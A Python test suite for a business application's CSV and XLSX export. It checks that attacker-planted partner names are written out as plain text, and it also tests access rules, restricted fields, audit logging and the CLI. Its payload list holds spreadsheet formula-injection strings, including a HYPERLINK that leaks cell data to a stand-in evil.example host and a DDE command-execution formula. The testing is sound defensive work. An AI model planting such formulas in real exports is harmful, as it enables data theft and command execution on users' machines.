"""Exporting records to CSV and XLSX: only what the user may export, and no cell runs as a formula.

Stories (RELIABILITY.md B5): partner names planted by an attacker (``=HYPERLINK(...)``,
``=cmd|' /C calc'!A0``, ``+1+1``, ``-1+1``, ``@SUM(1,1)``, a leading tab or carriage return) come out
as text in CSV and in XLSX; a clerk exports only the partners their rules show them, and nothing
of a model they may not export; a large export is written to the audit log.
"""

from __future__ import annotations

import csv
import io
import json

import pytest
from click.testing import CliRunner
from openpyxl import load_workbook

from loom.cli.main import cli
from loom.kernel.db import create_engine, run_unit_of_work
from loom.kernel.environment import Environment
from loom.kernel.errors import AccessError, FieldForbiddenError
from loom.kernel.installer import ModuleManager
from loom.kernel.transfer import AUDITED_ROWS, export_records
from loom.kernel.users import create_user, find_user
from loom_test_support import ROOTS, Installed

PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "=cmd|'/C calc'!A0", "+1+1", "-1+1", "@SUM(1,1)",
            "\t=1+1", "\r=1+1"]


@pytest.fixture(scope="module")
def shop(database_factory):
    """base installed; the attacker's partners, 1,200 ordinary ones, and two users."""
    url = database_factory()
    engine = create_engine(url)
    manager = ModuleManager(engine, roots=ROOTS)
    manager.install(["base"])
    registry = manager.registry(manager.installed())

    def setup(session):
        env = Environment(registry, session, su=True)
        env["base.partner"].create([{"name": name, "comment": name, "is_company": True} for name in PAYLOADS])
        customers = env["base.partner"].create([{"name": f"Customer {i:04d}", "city": "上海"}
                                                for i in range(AUDITED_ROWS + 200)])
        env["base.partner"].create({"name": "Contact of 0001", "parent_id": customers[1].id})
        role = env["loom.role"].create({"code": "test.exporter", "name": "Exporter"})
        env["loom.access"].create({"role_id": role.id, "model": "base.partner", "perm_read": True,
                                   "perm_export": True})
        env["loom.rule"].create({"name": "Shanghai only", "model": "base.partner", "role_id": role.id,
                                 "domain": [["name", "like", "Customer 000"]]})
        create_user(env, "exporter", "Exporter", "correct horse", roles=["test.exporter"])
        create_user(env, "clerk", "Clerk", "correct horse", roles=["base.user"])

    run_unit_of_work(engine, setup)
    yield Installed(url, engine, manager)
    engine.dispose()


def export(shop: Installed, login: str | None = None, **options) -> tuple[bytes, int]:
    def unit(session):
        env = Environment(shop.registry, session, su=True)
        if login:
            env = Environment(shop.registry, session, uid=find_user(env, login).id)
        out = io.BytesIO()
        count = export_records(env, "base.partner", out, **options)
        return out.getvalue(), count

    return run_unit_of_work(shop.engine, unit)


def test_formula_cells_in_csv_start_with_a_quote(shop):
    data, count = export(shop, fields=["name", "comment", "is_company"], domain=[["is_company", "=", True]],
                         order="id")
    assert data.startswith(b"\xef\xbb\xbf")  # a BOM: Excel reads the Chinese right
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert rows[0] == ["name", "comment", "is_company"]
    assert [row[0] for row in rows[1:]] == ["'" + payload for payload in PAYLOADS]
    assert [row[1] for row in rows[1:]] == ["'" + payload for payload in PAYLOADS]
    assert all(row[2] == "true" for row in rows[1:]) and count == len(PAYLOADS)


def test_formula_cells_in_xlsx_are_text_and_none_evaluates(shop, tmp_path):
    data, _count = export(shop, format="xlsx", fields=["name", "comment", "is_company"],
                          domain=[["is_company", "=", True]], order="id")
    path = tmp_path / "partners.xlsx"
    path.write_bytes(data)
    sheet = load_workbook(path).active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert [c.data_type for c in cells if c.data_type == "f"] == []
    # XlsxWriter stores a carriage return as the escape _x000D_, which Excel shows as the character
    assert [row[0].value.replace("_x000D_", "\r") for row in sheet.iter_rows(min_row=2)] == PAYLOADS
    assert all(row[0].data_type == "s" and row[2].value is True for row in sheet.iter_rows(min_row=2))


def test_a_user_exports_only_what_their_rules_show(shop):
    data, count = export(shop, login="exporter", fields=["name", "city"])
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert count == 10 and {row[0] for row in rows[1:]} == {f"Customer {i:04d}" for i in range(10)}
    assert {row[1] for row in rows[1:]} == {"上海"}


def test_a_user_without_export_permission_exports_nothing(shop):
    with pytest.raises(AccessError) as caught:
        export(shop, login="clerk", fields=["name"])
    assert "export" in str(caught.value)


def test_fields_restricted_to_roles_are_never_exported_not_even_by_the_superuser(shop):
    def unit(session):
        admin = Environment(shop.registry, session, su=True)
        role = admin["loom.role"].create({"code": "test.user_exporter", "name": "User exporter"})
        admin["loom.access"].create({"role_id": role.id, "model": "loom.user", "perm_read": True, "perm_export": True})
        user = create_user(admin, "hr_export", "HR", "correct horse", roles=["test.user_exporter"])
        hr = Environment(shop.registry, session, uid=user.id)
        headers = [_header(env, "loom.user") for env in (admin, hr)]
        refusals = []
        for env in (admin, hr):
            with pytest.raises(FieldForbiddenError) as caught:
                export_records(env, "loom.user", io.BytesIO(), fields=["login", "password_hash"])
            refusals.append(caught.value.field)
        return headers, refusals

    headers, refusals = run_unit_of_work(shop.engine, unit)
    assert all("login" in header and "password_hash" not in header for header in headers)
    assert refusals == ["password_hash", "password_hash"]


def _header(env, model):
    out = io.BytesIO()
    export_records(env, model, out)
    return out.getvalue().decode("utf-8-sig").splitlines()[0].split(",")


def test_a_large_export_is_audited_and_a_small_one_is_not(shop):
    def audited():
        with shop.engine.connect() as conn:
            return conn.exec_driver_sql("SELECT details FROM loom_audit_log WHERE action = 'export'").scalars().all()

    before = len(audited())
    export(shop, fields=["name"], domain=[["name", "like", "Customer 00"]])
    assert len(audited()) == before
    _data, count = export(shop, fields=["name", "city"])
    assert count > AUDITED_ROWS
    details = audited()[-1]
    details = json.loads(details) if isinstance(details, str) else details
    assert details["rows"] == count and details["fields"] == ["name", "city"] and details["format"] == "csv"


def test_the_cli_exports_csv_to_stdout_and_xlsx_to_a_file(shop, tmp_path):
    runner = CliRunner()
    done = runner.invoke(cli, ["-d", shop.url, "export", "base.partner", "--fields", "name,city",
                               "--domain", '[["name", "=", "Customer 0007"]]'])
    assert done.exit_code == 0, done.output
    assert done.stdout.lstrip("\ufeff").splitlines() == ["name,city", "Customer 0007,上海"]
    target = tmp_path / "out.xlsx"
    done = runner.invoke(cli, ["-d", shop.url, "--user", "exporter", "export", "base.partner", "-o", str(target),
                               "--order", "name desc"])
    assert done.exit_code == 0, done.output
    sheet = load_workbook(target).active
    assert sheet.max_row == 11 and sheet.cell(2, [c.value for c in sheet[1]].index("name") + 1).value == "Customer 0009"
    refused = runner.invoke(cli, ["-d", shop.url, "--user", "clerk", "export", "base.partner", "-o",
                                  str(tmp_path / "no.csv")])
    assert refused.exit_code != 0 and not (tmp_path / "no.csv").exists()
    assert not list(tmp_path.glob(".loom-export-*"))


def test_many_to_one_fields_export_the_linked_name(shop):
    data, _count = export(shop, fields=["name", "parent_id"], domain=[["name", "like", "Contact of"]])
    assert data.decode("utf-8-sig").splitlines() == ["name,parent_id", "Contact of 0001,Customer 0001"]


def test_a_linked_partner_the_user_may_not_read_exports_as_an_empty_cell(shop):
    def add_branch(session):
        env = Environment(shop.registry, session, su=True)
        (hidden,) = env["base.partner"].search([["name", "=", "Customer 0100"]])  # outside the exporter's rule
        return env["base.partner"].create({"name": "Customer 0009 Branch", "parent_id": hidden.id}).id

    branch_id = run_unit_of_work(shop.engine, add_branch)
    try:
        data, _count = export(shop, login="exporter", fields=["name", "parent_id"],
                              domain=[["name", "=", "Customer 0009 Branch"]])
        assert data.decode("utf-8-sig").splitlines() == ["name,parent_id", "Customer 0009 Branch,"]
    finally:
        run_unit_of_work(shop.engine, lambda session: Environment(shop.registry, session, su=True)[
            "base.partner"].delete(Environment(shop.registry, session, su=True)["base.partner"].browse([branch_id])))


def test_the_cli_names_a_missing_output_folder_and_an_unknown_field(shop, tmp_path):
    runner = CliRunner()
    missing = runner.invoke(cli, ["-d", shop.url, "export", "base.partner", "-o", str(tmp_path / "no" / "x.csv")])
    assert missing.exit_code == 2 and f"the folder {tmp_path / 'no'} does not exist" in missing.output
    unknown = runner.invoke(cli, ["-d", shop.url, "export", "base.partner", "--fields", "name,nope"])
    assert unknown.exit_code == 1 and str(unknown.exception) == "base.partner has no field nope"
